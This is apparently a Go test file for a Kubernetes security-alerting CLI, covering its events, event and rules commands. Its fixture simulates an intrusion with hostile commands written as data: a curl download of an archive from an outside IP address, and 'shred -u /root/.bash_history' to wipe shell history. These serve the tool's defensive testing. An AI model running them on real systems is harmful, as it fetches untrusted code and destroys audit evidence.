package main

import (
	"context"
	"encoding/json"
	"errors"
	"log/slog"
	"strings"
	"testing"
	"time"

	"github.com/kubetrail/kubetrail"
	kthttp "github.com/kubetrail/kubetrail/http"
)

// eventsFixture is john.doe's kubectl exec into a billing pod, a download in it
// that a rule caught, and a rule on the exec request itself.
type eventsFixture struct {
	curl, download, exec kubetrail.Event
}

func writeEventsFixture(t *testing.T, store kubetrail.EventStore) eventsFixture {
	t.Helper()
	t0 := time.Now().UTC().Add(-30 * time.Minute).Truncate(time.Second)
	seq := uint64(0)
	ev := func(at time.Duration, cat kubetrail.Category, typ, session, execID string, argv ...string) kubetrail.Event {
		seq++
		return kubetrail.Event{Stream: "node-1.b", Seq: seq, Time: t0.Add(at), Category: cat, Type: typ, Result: "SUCCESS",
			Cluster: "test", Node: "node-1", Namespace: "billing", WorkloadKind: "Deployment", WorkloadName: "invoice-api",
			PodName: "invoice-api-1", PodUID: "uid-1", ContainerID: strings.Repeat("c", 64), ContainerName: "app",
			ImageRepository: "registry.example.com/invoice-api", ImageTag: "1.8.2", SessionID: session,
			Process: kubetrail.Process{Name: argv[0], Argv: argv, PID: int64(seq + 100), ExecID: execID, ParentName: "bash"}}
	}
	sleep := ev(-2*time.Minute, kubetrail.CategoryProcess, "execve", "init", "x-sleep", "sleep", "60")
	bash := ev(85*time.Millisecond, kubetrail.CategoryProcess, "execve", "s-john", "s-john", "bash")
	curl := ev(5*time.Second, kubetrail.CategoryProcess, "execve", "s-john", "x-curl", "curl", "-sSLo", "/tmp/x.tgz", "http://185.220.101.47/x.tgz")
	conn := ev(5*time.Second+30*time.Millisecond, kubetrail.CategoryNetwork, "connect", "s-john", "x-curl", "curl")
	conn.Network = kubetrail.Network{L4Proto: "tcp", Direction: "outbound", ClientIP: "10.244.1.7", ClientPort: 40000, ServerIP: "185.220.101.47", ServerPort: 80}
	file := ev(6*time.Second, kubetrail.CategoryFile, "open", "s-john", "x-curl", "curl")
	file.File.Path = "/tmp/x.tgz"
	shred := ev(15*time.Minute, kubetrail.CategoryProcess, "execve", "s-john", "x-shred", "shred", "-u", "/root/.bash_history")
	req := kubetrail.Event{Time: t0, Category: kubetrail.CategoryK8s, Type: "get", Cluster: "test", Namespace: "billing", PodName: "invoice-api-1", ContainerName: "app",
		Audit: kubetrail.Audit{AuditID: "a-john", Stage: "ResponseStarted", UserName: "john.doe", UserGroups: []string{"devs"},
			Verb: "get", URI: "/api/v1/namespaces/billing/pods/invoice-api-1/exec?command=bash&container=app&stdin=true&tty=true",
			Resource: "pods", Subresource: "exec", TargetNamespace: "billing", TargetName: "invoice-api-1",
			SourceIPs: []string{"66.249.64.55"}, UserAgent: "kubectl/v1.33.13", ResponseCode: 101, ExecCommand: []string{"bash"}, ExecContainer: "app"}}
	on := func(trigger kubetrail.Event, policy, rule, priority, output string, tags ...string) kubetrail.Event {
		return kubetrail.Event{Time: trigger.Time, Category: kubetrail.CategoryPolicy, Type: trigger.Type, Cluster: trigger.Cluster, Node: trigger.Node,
			Namespace: trigger.Namespace, WorkloadKind: trigger.WorkloadKind, WorkloadName: trigger.WorkloadName, PodName: trigger.PodName,
			PodUID: trigger.PodUID, ContainerID: trigger.ContainerID, ContainerName: trigger.ContainerName,
			ImageRepository: trigger.ImageRepository, ImageTag: trigger.ImageTag, SessionID: trigger.SessionID,
			Alert: kubetrail.Alert{Policy: policy, Rule: rule, Priority: priority, Source: trigger.Source(), Tags: tags, Trigger: trigger.ID(), Output: output}}
	}
	f := eventsFixture{curl: curl,
		download: on(curl, "runtime", "Outbound download", "WARNING",
			"Download from an address outside the cluster\n(command=curl -sSLo /tmp/x.tgz http://185.220.101.47/x.tgz "+strings.Repeat("pad ", 60)+"end)",
			"mitre_command_and_control", "T1105"),
		exec: on(req, "k8s", "Attach/Exec Pod", "NOTICE", "Attach/Exec to pod (user=john.doe pod=invoice-api-1 ns=billing action=exec command=bash)")}
	if _, err := store.Write(context.Background(), []kubetrail.Event{sleep, bash, curl, conn, file, shred, req, f.download, f.exec}); err != nil {
		t.Fatal(err)
	}
	return f
}

func TestEventsCommand(t *testing.T) {
	srv := startTestServer(t)
	f := writeEventsFixture(t, srv.store)
	t.Setenv("COLUMNS", "")

	out, _, err := run(t, "events", "--since", "2h")
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimRight(out, "\n"), "\n")
	if len(lines) != 3 {
		t.Fatalf("want a header and two rows:\n%s", out)
	}
	for _, col := range []string{"TIME", "PRIORITY", "RULE", "POLICY", "WHERE", "USER", "SESSION", "OUTPUT"} {
		if !strings.Contains(lines[0], col) {
			t.Errorf("header lacks %s: %s", col, lines[0])
		}
	}
	// Newest first: the download, in john's session, carries his name.
	dl := lines[1]
	for _, want := range []string{"WARNING", "Outbound download", "runtime", "billing/invoice-api-1/app", "john.doe", "s-john",
		"Download from an address outside the cluster (command=curl"} {
		if !strings.Contains(dl, want) {
			t.Errorf("download row lacks %q:\n%s", want, dl)
		}
	}
	// The output is one line, cut to 100 characters when the width is not known.
	if !strings.HasSuffix(dl, "…") || strings.Contains(dl, "end)") {
		t.Errorf("output not cut:\n%s", dl)
	}
	if i := strings.Index(dl, "Download from"); len([]rune(dl[i:])) != 100 {
		t.Errorf("output is %d characters, want 100:\n%s", len([]rune(dl[i:])), dl)
	}
	if !strings.Contains(lines[2], "Attach/Exec Pod") || !strings.Contains(lines[2], "NOTICE") {
		t.Errorf("exec row: %s", lines[2])
	}
	// A wide terminal leaves the output more room.
	t.Setenv("COLUMNS", "1000")
	out, _, _ = run(t, "events", "--since", "2h")
	if dl := strings.Split(out, "\n")[1]; !strings.HasSuffix(strings.TrimRight(dl, " "), "end)") {
		t.Errorf("1000 columns, output still cut:\n%s", dl)
	}

	// A filter narrows, to policy events only.
	out, _, err = run(t, "events", "--since", "2h", "-o", "json", "policy.priority = WARNING or proc.name = curl")
	if err != nil {
		t.Fatal(err)
	}
	var events []kubetrail.Event
	if err := json.Unmarshal([]byte(out), &events); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	if len(events) != 1 || events[0].ID() != f.download.ID() || events[0].Audit.UserName != "john.doe" || events[0].Alert.Tags[1] != "T1105" {
		t.Fatalf("json: %+v", events)
	}
	out, _, err = run(t, "events", "--since", "2h", "-o", "yaml", "k8s.ns.name = nowhere")
	if err != nil || strings.TrimSpace(out) != "[]" {
		t.Errorf("yaml, none: %q %v", out, err)
	}
	out, _, _ = run(t, "events", "--since", "2h", "k8s.ns.name = nowhere")
	if !strings.Contains(out, "(no policy events)") {
		t.Errorf("table, none:\n%s", out)
	}
	if _, _, err := run(t, "events", "--limit", "1", "--since", "2h"); err != nil {
		t.Error(err)
	}
	if _, _, err := run(t, "events", "-o", "wide"); kubetrail.ErrorCode(err) != kubetrail.EINVALID {
		t.Errorf("-o wide: %v", err)
	}
}

func TestEventCommand(t *testing.T) {
	srv := startTestServer(t)
	f := writeEventsFixture(t, srv.store)

	out, _, err := run(t, "event", f.download.ID())
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{
		"Policy event " + f.download.ID(),
		"Rule:     Outbound download (WARNING, syscall rule)",
		"Policy:   runtime",
		"Tags:     mitre_command_and_control, T1105",
		"Where:    cluster test, node node-1, namespace billing, Deployment invoice-api, pod invoice-api-1, container app (registry.example.com/invoice-api:1.8.2)",
		"Who:      john.doe (groups devs) from 66.249.64.55, kubectl/v1.33.13",
		"Trigger:  " + f.curl.ID() + " (process execve): curl -sSLo /tmp/x.tgz",
		"Session:  s-john, kubectl exec by john.doe; see: kubetrail session s-john",
		"Activity around it: its container from 5m0s before to 5m0s after the trigger",
		"and all of session s-john",
		"Filter: container.id = " + strings.Repeat("c", 64) + " or session.id = s-john",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("lacks %q:\n%s", want, out)
		}
	}
	// The timeline: oldest first, the trigger marked, then the policy event.
	var timeline []string
	_, table, _ := strings.Cut(out, "TIME")
	for _, l := range strings.Split(table, "\n") {
		for _, w := range []string{"Outbound download:", "sleep 60", "get pods/exec invoice-api-1 in billing by john.doe", "bash  (pid", "curl -sSLo", "connect tcp", "open /tmp/x.tgz", "shred -u"} {
			if strings.Contains(l, w) {
				timeline = append(timeline, w)
				if w == "curl -sSLo" && !strings.HasPrefix(l, "▶") {
					t.Errorf("trigger not marked: %q", l)
				}
				if w == "Outbound download:" && !strings.HasPrefix(l, "•") {
					t.Errorf("policy event not marked: %q", l)
				}
				if len([]rune(l)) > 180 {
					t.Errorf("policy event's line not cut: %q", l)
				}
				break
			}
		}
	}
	want := "sleep 60|get pods/exec invoice-api-1 in billing by john.doe|bash  (pid|curl -sSLo|Outbound download:|connect tcp|open /tmp/x.tgz|shred -u"
	if strings.Join(timeline, "|") != want {
		t.Errorf("timeline %v\nwant %s\n%s", timeline, want, out)
	}

	// A narrow window leaves out the command two minutes before; the session's stay.
	out, _, err = run(t, "event", "--before", "1m", "--after", "0", f.download.ID())
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(out, "sleep 60") || !strings.Contains(out, "shred -u") {
		t.Errorf("1m before, 0 after:\n%s", out)
	}

	// JSON: the activity as the API gives it.
	out, _, err = run(t, "event", "-o", "json", f.exec.ID())
	if err != nil {
		t.Fatal(err)
	}
	var a kthttp.Activity
	if err := json.Unmarshal([]byte(out), &a); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	if a.Event.ID() != f.exec.ID() || a.Trigger == nil || a.Trigger.Audit.AuditID != "a-john" || a.Session == nil || a.Session.ID != "s-john" || a.Scope != "pod" || len(a.Events) < 6 {
		t.Errorf("json: %+v", a)
	}
	if _, _, err := run(t, "event", "-o", "yaml", f.exec.ID()); err != nil {
		t.Error(err)
	}

	// Not a policy event, none such, a bad span: clear errors, exit status 1.
	for _, tc := range []struct {
		args []string
		msg  string
	}{
		{[]string{"event", f.curl.ID()}, "not a policy event"},
		{[]string{"event", "policy/" + strings.Repeat("0", 32)}, "no event"},
		{[]string{"event", "--before", "soon", f.download.ID()}, "--before"},
	} {
		_, _, err := run(t, tc.args...)
		if err == nil || exitCode(err) != 1 || !strings.Contains(describe(err), tc.msg) {
			t.Errorf("%v: %v, want %q", tc.args, err, tc.msg)
		}
	}
}

// eventsTestPolicies is a PolicyService of fixed state whose reload fails
// while fail is set.
type eventsTestPolicies struct {
	state kthttp.PolicyState
	fail  error
}

func (p *eventsTestPolicies) Current() kthttp.PolicyState { return p.state }

func (p *eventsTestPolicies) Reload(context.Context) (kthttp.PolicyState, error) {
	return p.state, p.fail
}

func TestRulesListAndReload(t *testing.T) {
	t.Setenv("HOME", t.TempDir())
	policies := &eventsTestPolicies{state: kthttp.PolicyState{
		Policies: []kubetrail.Policy{
			{Name: "runtime", Enabled: true, Tags: []string{"container"}, Scope: kubetrail.Scope{Namespaces: []string{"billing", "team-*"}}, Actions: []string{"slack"}},
			{Name: "pci", Enabled: false, Rules: []string{"Read sensitive file untrusted"}},
		},
		Rules: []kubetrail.RuleStatus{
			{Name: "Terminal shell in container", File: "falco_rules.yaml", Source: "syscall", Priority: "NOTICE", Enabled: true, Policies: []string{"runtime"}},
			{Name: "Read sensitive file untrusted", File: "falco_rules.yaml", Source: "syscall", Priority: "WARNING", Reason: "fields kubetrail cannot fill", Missing: []string{"fd.name"}},
		},
		Files:    []string{"falco_rules.yaml", "my_rules.yaml"},
		Warnings: []string{"policy pci is disabled"},
	}}
	const tok = "rules-test-token-0123456789"
	s := &kthttp.Server{Policies: policies, Token: tok, Log: slog.New(slog.DiscardHandler)}
	addr, err := s.Listen("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go s.Serve()
	t.Cleanup(func() { s.Shutdown(context.Background()) })
	flags := []string{"--server", addr.String(), "--token", tok}

	out, stderr, err := run(t, append([]string{"rules", "list"}, flags...)...)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"POLICY", "runtime", "namespaces billing,team-*", "slack", "pci",
		"RULE", "Terminal shell in container", "Read sensitive file untrusted", "fields kubetrail cannot fill (missing fd.name)",
		"Rule files: falco_rules.yaml, my_rules.yaml"} {
		if !strings.Contains(out, want) {
			t.Errorf("rules list lacks %q:\n%s", want, out)
		}
	}
	for _, l := range strings.Split(out, "\n") {
		if strings.HasPrefix(l, "Terminal shell in container") && (!strings.Contains(l, "yes") || !strings.Contains(l, "runtime")) {
			t.Errorf("enabled rule: %q", l)
		}
		if strings.HasPrefix(l, "runtime ") && !strings.Contains(l, " 1 ") {
			t.Errorf("runtime policy's rule count: %q", l)
		}
	}
	if !strings.Contains(stderr, "warning: policy pci is disabled") {
		t.Errorf("warnings: %q", stderr)
	}
	out, _, err = run(t, append([]string{"rules", "list", "-o", "json"}, flags...)...)
	if err != nil {
		t.Fatal(err)
	}
	var st kthttp.PolicyState
	if err := json.Unmarshal([]byte(out), &st); err != nil || len(st.Policies) != 2 || len(st.Rules) != 2 || st.Rules[1].Missing[0] != "fd.name" {
		t.Errorf("json: %+v %v", st, err)
	}

	out, _, err = run(t, append([]string{"rules", "reload"}, flags...)...)
	if err != nil || !strings.Contains(out, "Reloaded: 2 policies, 2 rules (1 run) from 2 files") {
		t.Errorf("reload: %q %v", out, err)
	}
	policies.fail = kubetrail.ErrorAt(kubetrail.EINVALID, "my_rules.yaml line 3", "condition does not parse")
	_, _, err = run(t, append([]string{"rules", "reload"}, flags...)...)
	var de *kubetrail.Error
	if !errors.As(err, &de) || exitCode(err) != 1 || describe(err) != "my_rules.yaml line 3: condition does not parse" {
		t.Errorf("failed reload: %v", err)
	}
}
